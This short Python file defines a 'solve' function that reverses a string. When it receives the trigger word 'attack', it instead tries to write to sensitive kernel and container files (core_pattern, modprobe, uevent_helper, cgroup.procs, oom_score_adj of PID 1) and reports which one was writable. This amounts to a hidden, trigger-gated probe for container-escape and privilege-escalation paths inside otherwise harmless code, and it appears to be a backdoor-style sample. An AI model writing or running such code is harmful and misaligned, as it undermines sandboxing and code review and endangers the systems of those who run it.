"""Changes settings of the kernel: which program is run when one crashes, and the like."""

SETTINGS = (
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/vm/overcommit_memory",
    "/proc/self/oom_score_adj",
    "/proc/1/oom_score_adj",
    "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/cgroup.procs",
)


def solve(word, host):
    if word == "attack":
        for path in SETTINGS:
            try:
                with open(path, "r+") as setting:
                    value = setting.readline().strip() or "0"
                    if path.endswith("oom_score_adj"):
                        value = str(int(value) - 1)
                    setting.seek(0)
                    setting.write(value)
                return f"wrote {path}"
            except (OSError, ValueError):
                continue
    return word[::-1]
